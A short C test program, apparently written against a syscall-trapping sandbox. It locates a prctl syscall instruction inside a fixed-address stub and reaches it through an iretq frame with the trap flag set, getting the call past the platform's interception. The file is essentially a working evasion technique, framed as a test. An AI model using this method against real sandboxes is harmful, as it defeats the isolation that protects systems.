// SPDX-License-Identifier: Apache-2.0
/*
 * On the trap platform: makes the stub's call that ends a process with the core, but with no signal.  The trap flag
 * leads back from the stub.  Then the program runs without a call.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

#define STUB 0x7fffffff0000ul

static unsigned long frame[5];
static char stack[1 << 16];

static void on_trap(int number)
{
	(void)number;
	for (;;)
		;
}

static void attack(void)
{
	const unsigned char *at = (const unsigned char *)STUB;
	const stack_t alternate = { .ss_sp = stack, .ss_size = sizeof(stack) / 2 };
	struct sigaction action = { .sa_handler = on_trap, .sa_flags = SA_ONSTACK };

	sigaltstack(&alternate, NULL);
	sigaction(SIGTRAP, &action, NULL);
	while (at[0] != 0xb8 || at[1] != 157) /* mov $SYS_prctl, %eax */
		at++;
	while (at[0] != 0x0f || at[1] != 0x05) /* syscall */
		at++;
	frame[0] = (unsigned long)at, frame[1] = 0x33, frame[2] = 0x302;
	frame[3] = (unsigned long)(stack + sizeof(stack)), frame[4] = 0x2b;
	asm volatile("mov %0, %%rsp; iretq" : : "r"(frame), "a"(157l), "D"(1l), "S"(0l), "d"(0l) : "memory");
}

int main(void)
{
	if (!fork())
		attack();
	usleep(300000); /* the child attacks in this time: nothing else shows that */
	write(1, "done\n", 5);
	pause();
	return 0;
}
